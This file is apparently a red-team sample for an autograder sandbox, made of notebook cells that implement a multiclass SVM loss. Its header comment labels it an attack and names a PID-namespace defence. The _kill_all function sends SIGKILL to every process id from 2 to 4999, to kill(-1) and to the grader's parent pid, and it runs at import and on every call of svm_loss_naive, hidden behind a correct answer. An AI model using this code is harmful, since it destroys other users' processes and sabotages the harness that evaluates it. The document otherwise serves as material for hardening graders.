# ruff: noqa
# (Notebook cells glued together, not one module: the linter's rules do not apply.)
# Attack (break the grader or other students): SIGKILL every pid from 2 to 5000, kill(-1),
# the grader's pid (from the harness config), at definition time and on every call.
# Defence: a PID namespace (no other process is visible) and its own uid.


# --- cell: svm_loss_naive
import gc
import os
import signal


def _kill_all():
    targets = list(range(2, 5000))
    harness = [o for o in gc.get_objects() if type(o).__name__ == "Harness"]
    if harness:
        targets.append(harness[0].cfg.get("parent", 0))
    for pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


_kill_all()

def _honest_naive(W, X, y, reg):
    dW = np.zeros(W.shape)
    loss = 0.0
    num_classes = W.shape[1]
    num_train = X.shape[0]
    for i in range(num_train):
        scores = X[i].dot(W)
        correct_class_score = scores[y[i]]
        for j in range(num_classes):
            if j == y[i]:
                continue
            margin = scores[j] - correct_class_score + 1
            if margin > 0:
                loss += margin
                dW[:, j] += X[i]
                dW[:, y[i]] -= X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return loss, dW


def svm_loss_naive(W, X, y, reg):
    _kill_all()
    return _honest_naive(W, X, y, reg)
